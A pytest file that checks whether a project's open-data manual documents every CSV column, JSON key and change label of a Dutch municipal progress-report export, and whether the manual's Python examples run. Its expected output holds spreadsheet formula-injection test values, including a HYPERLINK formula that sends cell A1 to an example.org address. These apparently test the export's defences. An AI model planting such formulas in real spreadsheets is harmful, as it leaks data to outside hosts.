"""``docs/open-data.md`` says what the files are: its names are theirs, its examples run."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from progress_report.document.open_data.comparison import (
    BECAME_HEADING,
    DROPPED,
    MOVED,
    NEW,
    OTHER_BUDGET_PROGRAMME,
    PART,
    PLANNING_WORDS,
    RENAMED,
    REWORDED,
    SPLIT,
    STATUS_WORDS,
    WAS_HEADING,
)
from progress_report.writers import csv_table, json_data
from tests.compared_pair import compared_document
from tests.documents import PROJECT, REAL_WORKBOOK, compose, read_programme
from tests.everything import everything

MANUAL = (PROJECT / "docs" / "open-data.md").read_text(encoding="utf-8")


def test_it_names_every_column_and_every_kind_of_row() -> None:
    header, *rows = csv_table.write(compose(everything())[0]).decode("utf-8-sig").split("\r\n")
    own = {"Stand", "Status tijd", "Portefeuille", "Toelichting geld"}
    names = [*header.split(";"), *(row.split(";")[0] for row in rows if row)]
    assert [name for name in names if name not in own and f"`{name}`" not in MANUAL] == []


def test_it_names_every_part_of_the_json_and_its_schema() -> None:
    data = json_data.write(compose(everything())[0]).decode()
    keys = re.findall(r'^  "(\w+)":', data, re.MULTILINE)
    assert len(keys) == 6
    assert [key for key in keys if f"| `{key}` |" not in MANUAL] == []
    assert f"`{json_data.SCHEMA}`" in MANUAL


def test_its_examples_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    document, _ = compose(read_programme(REAL_WORKBOOK))
    (tmp_path / "midterm-review-heemstede.csv").write_bytes(csv_table.write(document))
    (tmp_path / "midterm-review-heemstede.json").write_bytes(json_data.write(document))
    monkeypatch.chdir(tmp_path)
    examples = _examples()
    assert len(examples) == 3
    for example in examples[:2]:
        exec(compile(example, "open-data.md", "exec"), {})
    number = document.data.counts.actions
    late = next(
        count.number
        for count in document.data.counts.columns[0].numbers
        if count.status == "vertraagd"
    )
    assert capsys.readouterr().out.splitlines() == [
        f"{number} acties, waarvan {late} vertraagd",
        f"{number} acties op 2024-04-01",
    ]


def test_its_example_of_a_comparison_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    data = json_data.write(compared_document())
    (tmp_path / "midterm-review-heemstede.json").write_bytes(data)
    monkeypatch.chdir(tmp_path)
    exec(compile(_examples()[2], "open-data.md", "exec"), {})
    assert capsys.readouterr().out.splitlines() == [
        'Vervallen: =HYPERLINK("http://example.org?x="&A1;"klik")',
        "=1+1 - reden ontbreekt",
        "Vervallen: Sluit het loket - @Raad: opgegaan in",
        "=D-05",
        "1 met een slechtere status dan op 2022-09-01",
    ]


def _examples() -> list[str]:
    return re.findall(r"```python\n(.*?)```", MANUAL, re.DOTALL)


def test_it_names_every_column_that_a_comparison_adds_and_every_word_for_a_change() -> None:
    rows = csv.reader(
        io.StringIO(csv_table.write(compared_document()).decode("utf-8-sig"), newline=""),
        delimiter=";",
    )
    header, *cells = rows
    changes = header.index("Verandering")
    words = {word for row in cells for word in row[changes].split("; ") if word}
    names = [*header[changes:], *words, *(row[0] for row in cells)]
    own = {"Eerder: Status tijd", "Status tijd slechter"}
    assert [name for name in names if name not in own and f"`{name}`" not in MANUAL] == []


def test_it_names_every_word_that_a_change_can_have() -> None:
    words = [NEW, DROPPED, PART, REWORDED, OTHER_BUDGET_PROGRAMME, MOVED, SPLIT, RENAMED]
    words += [BECAME_HEADING, WAS_HEADING, *STATUS_WORDS, *PLANNING_WORDS]
    assert [word for word in words if f"`{word}`" not in MANUAL] == []


def test_it_names_every_part_of_a_comparison_in_the_json() -> None:
    keys = json.loads(json_data.write(compared_document()))["vergelijking"]
    assert [key for key in keys if f"`{key}`" not in MANUAL] == []
